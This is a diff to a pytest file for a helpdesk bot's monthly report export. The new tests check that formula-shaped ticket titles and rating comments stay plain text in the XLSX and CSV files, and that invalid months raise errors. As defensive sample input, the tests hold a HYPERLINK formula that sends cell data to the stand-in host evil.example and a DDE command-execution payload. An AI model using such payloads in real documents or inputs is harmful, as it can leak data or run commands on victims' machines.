@@ -2,6 +2,7 @@
 summary."""
 
 import asyncio
+import csv
 import io
 from datetime import datetime
 from zoneinfo import ZoneInfo
@@ -16,7 +17,9 @@ from domain import services as uc
 from storage import Database
 
 
-async def october_history(path) -> int:
+async def october_history(
+    path, description: str = "не печатает принтер", rating_comment: str | None = None
+) -> int:
     clock = MovableClock(
         datetime(2026, 10, 5, 10, 0, tzinfo=ZoneInfo("Europe/Moscow")), ticking=False
     )
@@ -27,13 +30,18 @@ async def october_history(path) -> int:
         code = (await uc.create_invite(uow, clock, client_id=client.id)).value.code
         await uc.register_employee(uow, clock, code=code, tg_id=100, name="Анна")
         draft = uc.TicketDraft(
-            "не печатает принтер", TicketKind.INCIDENT, impact=WorkImpact.BLOCKED, scope=Scope.ME
+            description, TicketKind.INCIDENT, impact=WorkImpact.BLOCKED, scope=Scope.ME
         )
         ticket = (await uc.open_ticket(uow, clock, employee_tg_id=100, draft=draft)).value
         clock.advance(hours=2)  # Gold, High: 1 h to answer; answered an hour late
         await uc.take(uow, clock, ticket_id=ticket.number, staff_tg_id=1)
         clock.advance(hours=1)
         await uc.resolve(uow, clock, ticket_id=ticket.number, staff_tg_id=1)
+        if rating_comment is not None:
+            await uc.confirm_resolution(uow, clock, ticket_id=ticket.number, tg_id=100)
+            await uc.rate(
+                uow, clock, ticket_id=ticket.number, tg_id=100, score=1, comment=rating_comment
+            )
         await uow.commit()
     await db.close()
     return client.id
@@ -66,3 +74,36 @@ def test_an_unknown_client_is_a_clear_error(tmp_path, monkeypatch, capsys):
         main(["report", "--client", "99", "--out", str(tmp_path)])
     assert done.value.code == 2
     assert "unknown client id 99" in capsys.readouterr().err
+
+
+def test_a_title_or_comment_shaped_like_a_formula_stays_text(tmp_path, monkeypatch):
+    """Whatever an employee types comes out as text in both files, never as a live formula."""
+    db_path = tmp_path / "frontdesk.db"
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
+    comment = "+cmd|' /C calc'!A0"
+    client_id = asyncio.run(october_history(db_path, title, rating_comment=comment))
+    monkeypatch.setenv("BOT_TOKEN", "123456:TEST")
+    monkeypatch.setenv("DATABASE_PATH", str(db_path))
+    out = tmp_path / "out"
+    with pytest.raises(SystemExit):
+        main(["report", "--client", str(client_id), "--month", "2026-10", "--out", str(out)])
+    book = load_workbook(io.BytesIO((out / "report-2026-10.xlsx").read_bytes()))
+    cell = next(c for row in book["Заявки"].iter_rows() for c in row if c.value == title)
+    assert cell.data_type == "s" and cell.quotePrefix
+    rating = book["Оценки"]["C2"]
+    assert rating.value == comment and rating.data_type == "s" and rating.quotePrefix
+    rows = list(
+        csv.reader(io.StringIO((out / "report-2026-10-tickets.csv").read_text("utf-8-sig")))
+    )
+    assert rows[1][6] == "'" + title
+    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
+
+
+@pytest.mark.parametrize("month", ["9999-12", "1999-12", "2026-13"])
+def test_a_month_out_of_range_is_a_clear_error(tmp_path, monkeypatch, capsys, month):
+    monkeypatch.setenv("BOT_TOKEN", "123456:TEST")
+    monkeypatch.setenv("DATABASE_PATH", str(tmp_path / "frontdesk.db"))
+    with pytest.raises(SystemExit) as done:
+        main(["report", "--client", "1", "--month", month, "--out", str(tmp_path)])
+    assert done.value.code == 2
+    assert "the month is" in capsys.readouterr().err
